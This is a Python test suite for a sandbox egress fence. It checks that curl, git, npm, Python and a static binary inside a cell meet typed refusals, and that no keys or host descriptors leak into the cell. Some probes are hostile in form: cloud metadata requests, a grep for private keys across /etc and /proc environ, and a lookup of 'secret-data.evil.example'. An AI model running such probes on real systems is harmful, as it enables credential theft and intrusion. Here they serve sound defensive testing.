#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The fence from inside a real cell: whatever is dialled, by whatever client,
meets the cell's own egress and a typed refusal; nothing else is reachable, and
nothing of the cell is left when it has ended."""
import base64
import json
import os
import re
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'api'))
from house import *  # noqa: E402,F403

HOUSE = None


def house():
    """One house for all tests of this file; main() ends it."""
    global HOUSE
    if HOUSE is None:
        HOUSE = House({'helper': HELPER, 'dialler': {
            **HELPER, 'gates.toml': HELPER['gates.toml'] + TUNNEL}})
        HOUSE.start()
    return HOUSE


TUNNEL = """
[egress.tunnel]
match = { host = "tunnel.example", port = 443 }
protocol = "tcp"
"""


def cell(*argv, timeout=2 * PATIENCE, role='helper'):
    return house().cli('sandbox', 'run', '--identity', role, '--', *argv, timeout=timeout)


def script(text, timeout=2 * PATIENCE):
    return cell('/bin/sh', '-c', text, timeout=timeout)


def refused(answer, host):
    """The typed refusal: what, why, and the rule that would allow it."""
    found = re.search(r'\{"error".*\}', answer.out)
    need(found, 'no typed refusal', answer)
    body = json.loads(found.group(0))
    need(body['error'] == 'denied' and body['reason'], 'typed', body)
    need(host in body['next'], 'next names the host', body)
    return body


def denials():
    return [e for e in house().events() if e['kind'] == 'request_denied']


def raw():
    """The static client, as text that a cell can make a file of."""
    with tempfile.TemporaryDirectory() as folder:
        source = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'raw.c')
        done = subprocess.run(['cc', '-O2', '-static', '-nostdlib', '-ffreestanding',
                               '-fno-stack-protector', '-o', folder + '/raw', source],
                              capture_output=True, text=True)
        if done.returncode:
            raise Skipped('no static binary can be built here: ' + done.stderr[-200:])
        with open(folder + '/raw', 'rb') as f:
            return base64.b64encode(f.read()).decode()


@test
def curl_meets_a_typed_refusal():
    before = len(denials())
    refused(cell('curl', '-sS', '-m', '50', 'https://denied.example/a'), 'denied.example')
    need(len(denials()) == before + 1, 'one row for one refusal')


@test
def plain_http_meets_the_same_refusal():
    refused(cell('curl', '-sS', '-m', '50', 'http://denied.example:8080/a'), 'denied.example')


@test
def git_meets_a_403():
    a = script('GIT_TERMINAL_PROMPT=0 git clone -q https://denied.example/x.git /tmp/x 2>&1')
    need(a.code != 0 and '403' in a.out, a)


@test
def python_meets_the_refusal():
    refused(cell('python3', '-c', '''
import urllib.request, urllib.error
try:
    urllib.request.urlopen("https://denied.example/p", timeout=50)
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
'''), 'denied.example')


@test
def npm_meets_the_refusal():
    if script('command -v npm').code:
        raise Skipped('npm is not below /usr on this host')
    a = script('npm view left-pad --registry https://denied.example/ --fetch-retries 0 2>&1')
    need(a.code != 0 and ('403' in a.out or 'Forbidden' in a.out), a)


@test
def proxy_variables_change_nothing_B01():
    refused(script('env -i PATH=$PATH curl -sS -k -m 50 https://denied.example/b'),
            'denied.example')


@test
def a_static_client_reaches_nothing_on_any_port_B01_N17():
    text = raw()
    before = len(denials())
    made = ('echo %s | base64 -d >/tmp/raw; chmod 755 /tmp/raw; ' % text)
    # 192.0.2.10 and 2001:db8::1 are nobody's (RFC 5737, 3849).
    for port in (1, 22, 25, 443, 5432, 65535):
        a = script(made + '/tmp/raw c000020a %d' % port)
        need('Handrail' not in a.out or '403' in a.out or '400' in a.out, a)
        need('SSH-' not in a.out and 'ESMTP' not in a.out, a)
    script(made + '/tmp/raw 20010db8000000000000000000000001 22')
    until(lambda: len(denials()) >= before + 7, 5, 'a row for each attempt')


@test
def an_address_of_the_host_is_not_the_host_N13_A07():
    port = house().port
    a = script('curl -sS -m 5 http://127.0.0.1:%d/healthz 2>&1' % port)
    need('"ok"' not in a.out, 'the house is reached on loopback', a)
    for address in subprocess.run(['hostname', '-I'], capture_output=True,
                                  text=True).stdout.split()[:2]:
        host = '[%s]' % address if ':' in address else address
        a = script('curl -sS -m 5 http://%s:%d/healthz 2>&1' % (host, port))
        need('"ok"' not in a.out, 'the house is reached', address, a)


@test
def raw_addresses_of_both_families_are_refused_N10():
    refused(cell('curl', '-sS', '-k', '-m', '50', 'https://192.0.2.10/'), '192.0.2.10')
    refused(cell('curl', '-sS', '-m', '50', 'http://[2001:db8::1]:8080/'), '2001:db8::1')


@test
def metadata_services_are_refused_A02_A03():
    for address in ('169.254.169.254', '100.100.100.200', '[fd00:ec2::254]'):
        refused(cell('curl', '-sS', '-m', '50', 'http://%s/latest/meta-data' % address),
                address.strip('[]'))


@test
def udp_is_refused_at_once_D04():
    a = cell('python3', '-c', '''
import socket
for family, address in ((socket.AF_INET, "192.0.2.10"), (socket.AF_INET6, "2001:db8::1")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(20)  # who hears nothing is not refused
    try:
        s.connect((address, 443)); s.send(b"quic?"); s.recv(1)
    except OSError as e:
        print(type(e).__name__)
''')
    need(a.out.split() == ['ConnectionRefusedError'] * 2, a)


@test
def names_are_answered_without_a_look_up_D03():
    # A resolver that waits for somebody waits for 5 s.
    a = script('timeout 4 getent hosts secret-data.evil.example')
    need(re.match(r'198\.1[89]\.', a.out), a)


@test
def its_own_service_on_loopback_works():
    a = cell('python3', '-c', '''
import socket, threading
s = socket.create_server(("127.0.0.1", 8080))
threading.Thread(target=lambda: s.accept()[0].sendall(b"mine"), daemon=True).start()
print(socket.create_connection(("127.0.0.1", 8080), 50).recv(9))
''')
    need("b'mine'" in a.out, a)


def trusted(role):
    return cell('python3', '-c', '''
import os, socket, ssl
context = ssl.create_default_context()
with socket.create_connection(("denied.example", 443), 50) as s:
    with context.wrap_socket(s, server_hostname="denied.example") as t:
        issuer = dict(x[0] for x in t.getpeercert()["issuer"])
        print(issuer.get("commonName"))
text = open(os.environ["SSL_CERT_FILE"]).read()
print(text.count("BEGIN CERTIFICATE"), "PRIVATE KEY" in text)
''', role=role)


@test
def tls_clients_trust_the_cells_ca_and_the_public_roots():
    a = trusted('dialler')
    count, key = a.out.split('\n')[1].split()
    need(a.code == 0 and int(count) > 50 and key == 'False', a)


@test
def without_a_tunnel_tls_clients_trust_the_cells_ca_alone():
    a = trusted('helper')
    need(a.code == 0 and a.out.split('\n')[1] == '1 False', a)


@test
def every_cell_has_a_ca_of_its_own_T07():
    text = 'tail -n 30 /etc/ssl/certs/ca-certificates.crt | sha256sum; ' \
        'sha256sum < /etc/ssl/certs/ca-certificates.crt'
    need(script(text).out != script(text).out, 'two cells share one bundle')


@test
def no_private_key_of_the_ca_is_in_the_cell_T07():
    a = script('grep -rls "PRIVATE KEY" /etc /tmp /dev/shm /work 2>/dev/null; '
               'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "PRIVATE KEY"')
    need(a.out.strip() == '0', a)


@test
def sni_and_host_must_be_the_name_that_was_dialled_T01_T02():
    a = cell('python3', '-c', '''
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
def ask(sni, host):
    try:
        with socket.create_connection(("dialled.example", 443), 50) as s:
            with context.wrap_socket(s, server_hostname=sni) as t:
                t.sendall(("GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host).encode())
                return t.recv(4096).split(b"\\r\\n")[0].decode() or "closed"
    except OSError as e:
        return "refused"
print(ask("other.example", "dialled.example"))
print(ask("dialled.example", "other.example"))
print(ask("dialled.example", "dialled.example"))
''')
    first, second, third = a.out.split('\n')[:3]
    need(first in ('refused', 'closed'), 'T01', a)
    need('200' not in second and second != third or ' 4' in second, 'T02', a)
    need(' 403 ' in third, a)


@test
def nothing_of_a_cell_is_left_when_it_has_ended_B14():
    def egresses():
        return sorted(p for p, (_, name) in processes().items()
                      if name == 'egress' and p in descendants(house().process.pid))

    def hidden():
        """Networks that nobody stands in: whatever others make and end meanwhile
        counts on both sides.  What the kernel keeps for the next to come counts
        as well until it shrinks.  None: it does not tell."""
        try:
            with open('/sys/kernel/slab/net_namespace/shrink', 'w') as f:
                f.write('1')
            with open('/proc/slabinfo') as f:
                found = re.search(r'^net_namespace\s+(\d+)', f.read(), re.M)
        except OSError:
            return None
        seen = set()
        for pid in processes():
            with contextlib.suppress(OSError):
                seen.add(os.readlink('/proc/%d/ns/net' % pid))
        return int(found.group(1)) - len(seen) if found else None

    script('true')
    within(lambda: len(egresses()) == 2, 15, 'the egress of a cell is left')
    time.sleep(1)
    egress, before = egresses(), hidden()
    for _ in range(20):
        script('curl -s -m 5 http://denied.example/ >/dev/null')
    within(lambda: egresses() == egress, 15, 'an egress is left')
    # A namespace that a socket pins is invisible to lsns; the kernel's own
    # count of them is not.
    if before is not None:
        until(lambda: hidden() <= before + 2, 10, 'network namespaces are left: '
              '%s before' % before, every=0.2)


@test
def the_core_limit_cannot_be_made_nothing_B18():
    # With a limit of nothing a crash runs the host's piped core handler.
    a = cell('python3', '-c', '''
import resource
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
print(*resource.getrlimit(resource.RLIMIT_CORE))
''')
    need(a.out.strip() == '1 1', a)
    need(script('set -e; ulimit -c 0; echo goes on').out.strip() == 'goes on')


@test
def a_descriptor_of_the_house_is_not_in_the_cell_I07():
    a = script('ls -l /proc/self/fd | grep -v " [012] -> pipe" | grep -c -e socket -e pidfd')
    need(a.out.strip() == '0', a)


if __name__ == '__main__':
    code = main()
    if HOUSE is not None:
        HOUSE.stop()
        HOUSE.__exit__()
    sys.exit(code)
